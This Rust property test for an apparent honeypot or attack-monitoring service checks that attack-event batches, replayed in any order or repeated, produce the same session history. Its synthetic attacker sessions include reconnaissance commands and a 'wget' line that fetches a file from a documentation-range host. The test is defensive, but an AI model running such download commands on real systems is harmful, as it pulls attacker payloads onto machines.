//! Any order and any repetition of batches ends in the same history.

use crate::support::{Attack, Centre, SCHEMA, body, org};
use base::Env;
use logwire::attack::{AttackEvent, What};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use sensor::model::SessionFilter;
use store::page::Page;
use testkit::{START, all};

/// What the history says, without ids that are drawn.
async fn history(batches: &[(u64, Vec<AttackEvent>)]) -> (Vec<String>, Vec<String>, Vec<String>) {
    let (env, _clock) = Env::fixed(START, 7);
    let (db, _folder) = testkit::sqlite(SCHEMA, env.clone()).await;
    let mut centre = Centre::open(db.clone(), env).await;
    let trap = centre.sensor(1, org(1)).await;
    for (first, events) in batches {
        centre.intake.accept_batch(&trap, 1, *first, &body(events)).await.unwrap();
        if first % 2 == 0 {
            centre.history.catch_up().await.unwrap();
        }
    }
    centre.history.catch_up().await.unwrap();
    let page = centre.reads.sessions(&all(), &SessionFilter::default(), &Page::first(1000)).await.unwrap();
    let mut sessions = Vec::new();
    for session in &page.items {
        let mut detail = centre.reads.session(&all(), session.id).await.unwrap();
        detail.session.campaign = None;
        sessions.push(format!("{detail:?}"));
    }
    let bars = centre.reads.timeline(&all(), START, START.plus_secs(3_600)).await.unwrap();
    let sources = centre.reads.observables(&all(), &Default::default(), &Page::first(1000)).await.unwrap();
    let sources =
        sources.items.iter().map(|s| format!("{} {} {:?} {}", s.value, s.sessions, s.class, s.sensors)).collect();
    db.close().await;
    (sessions, bars.iter().map(|bar| format!("{bar:?}")).collect(), sources)
}

fn any_session() -> impl Strategy<Value = (u8, u8, u8, bool)> {
    (0_u8..4, 0_u8..3, 0_u8..4, any::<bool>())
}

fn attack(number: usize, (source, tries, commands, file): (u8, u8, u8, bool)) -> Vec<AttackEvent> {
    let at = START.plus_secs(number as i64 * 17);
    let pairs = [("root", "a"), ("root", "b"), ("pi", "c")];
    let lines = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x"];
    let attack = Attack::new(&format!("s{number}"), &format!("203.0.113.{}", source + 1), at)
        .tries(&pairs[..usize::from(tries)])
        .types(&lines[..usize::from(commands).min(3)]);
    let attack = if file { attack.then(What::FileRef { url: "http://198.51.100.9/y".into() }) } else { attack };
    attack.closes()
}

#[test]
fn any_order_any_repetition() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let cases = (
        proptest::collection::vec(any_session(), 1..8),
        proptest::collection::vec((any::<prop::sample::Index>(), 1_usize..6), 1..10),
        any::<bool>(),
    );
    let mut runner = TestRunner::new(Config { cases: 12, failure_persistence: None, ..Config::default() });
    runner
        .run(&cases, |(sessions, cuts, turn)| {
            let events: Vec<AttackEvent> =
                sessions.iter().enumerate().flat_map(|(number, shape)| attack(number, *shape)).collect();
            let whole = vec![(1, events.clone())];
            let part = |from: usize, length: usize| {
                let to = (from + length).min(events.len());
                (from as u64 + 1, events[from..to].to_vec())
            };
            let mut parts: Vec<_> = cuts.iter().map(|(at, length)| part(at.index(events.len()), *length)).collect();
            if turn {
                parts.reverse();
            }
            parts.extend((0..events.len()).rev().step_by(3).map(|at| part(at, 5)));
            parts.push(part(0, events.len()));
            let (one, other) = runtime.block_on(async { (history(&whole).await, history(&parts).await) });
            prop_assert_eq!(one, other);
            Ok(())
        })
        .unwrap();
}
